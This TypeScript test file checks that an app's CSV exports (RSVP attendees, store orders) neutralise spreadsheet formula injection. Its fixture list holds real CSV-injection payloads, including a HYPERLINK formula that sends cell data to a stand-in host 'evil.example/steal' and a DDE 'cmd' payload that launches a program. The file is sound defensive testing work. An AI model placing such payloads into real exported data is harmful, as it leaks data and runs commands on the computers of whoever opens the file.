import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { parse } from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { LineItem } from '@cp/contracts/store';
import { toCsv, type CsvCell } from '../components/export-csv-button';
import { attendeeCsvColumns, attendeeCsvRows } from '../features/rsvp/attendee-list';
import { testAttendees } from '../features/rsvp/test-attendees';
import { orderLineCells, orderLineColumns } from '../features/store/order-lines-csv';

/** What a spreadsheet runs as a formula: a cell starting with one of these. */
const live = /^[=+\-@\t\r]/;

/** Every formula start, alone, followed by a line break (the issue-40 case), and led by one. */
const hostile = [
  '=HYPERLINK("http://evil.example/steal?d="&A2,\n"Open")',
  '=HYPERLINK("http://evil.example/steal?d="&A2,"Open")',
  "+1+cmd|' /C calc'!A0",
  '+1\r\n+2',
  '-2+3',
  '-2+3\nsecond line',
  '@SUM(A1:A9)',
  '@SUM(A1:A9)\r\n',
  '\t=1+1',
  '\t=1\n+1',
  '\r=1+1',
  '\r\n=1+1',
  '=',
];

/** The cells of a CSV as a spreadsheet reads them. */
const cellsOf = (csv: string) => parse<string[]>(csv, { skipEmptyLines: false }).data.flat();

const src = join(__dirname, '..');
const sourceFiles = (dir: string): string[] =>
  readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) return sourceFiles(path);
    return /\.tsx?$/.test(entry.name) && !/\.test\.tsx?$/.test(entry.name) ? [path] : [];
  });

describe('every CSV export', () => {
  it('goes through the one writer: nothing else builds CSV text or a CSV file', () => {
    const writers = sourceFiles(src)
      .filter((file) => /\bunparse\b|text\/csv;|\.csv`/.test(readFileSync(file, 'utf8')))
      .map((file) => relative(src, file));
    expect(writers).toEqual([join('components', 'export-csv-button.tsx')]);
  });

  it('neutralises every formula start, with or without a line break after it', () => {
    const rows: CsvCell[][] = hostile.map((value) => [value, `ok ${hostile.indexOf(value)}`, 3, null]);
    const csv = toCsv(['Value', 'Note', 'Count', 'Empty'], rows);
    const cells = cellsOf(csv);
    expect(cells.filter((cell) => live.test(cell))).toEqual([]);
    // Nothing is lost: each hostile value reads back as itself behind the apostrophe.
    for (const value of hostile) expect(cells).toContain(`'${value}`);
  });

  it('neutralises hostile headers too', () => {
    expect(cellsOf(toCsv(['=cmd\n"x"'], [])).filter((cell) => live.test(cell))).toEqual([]);
  });

  it('RSVP attendees: a hostile name, email or dietary note never lands live', () => {
    const attendees = hostile.map((value, i) => {
      const base = testAttendees[0]!;
      return {
        ...base,
        userId: `${value}${i}@illinois.edu`,
        profile: { ...base.profile!, name: value, dietaryOther: value },
      };
    });
    const cells = cellsOf(toCsv(attendeeCsvColumns, attendeeCsvRows(attendees)));
    expect(cells.filter((cell) => live.test(cell))).toEqual([]);
    expect(cells).toContain(`'${hostile[0]}`);
  });

  it('store orders: a hostile email or variant name never lands live', () => {
    const lines = hostile.map(
      (value, i): LineItem =>
        ({
          orderId: `ord_${i}`,
          lineItemId: `li_${i}`,
          userId: value,
          variantName: value,
          quantity: 1,
          unitPriceCents: 100,
          discountCents: 0,
          status: 'ACTIVE',
          isFulfilled: false,
          createdAt: 1_800_000_000,
        }) as LineItem,
    );
    const cells = cellsOf(toCsv(orderLineColumns, lines.map(orderLineCells)));
    expect(cells.filter((cell) => live.test(cell))).toEqual([]);
  });
});
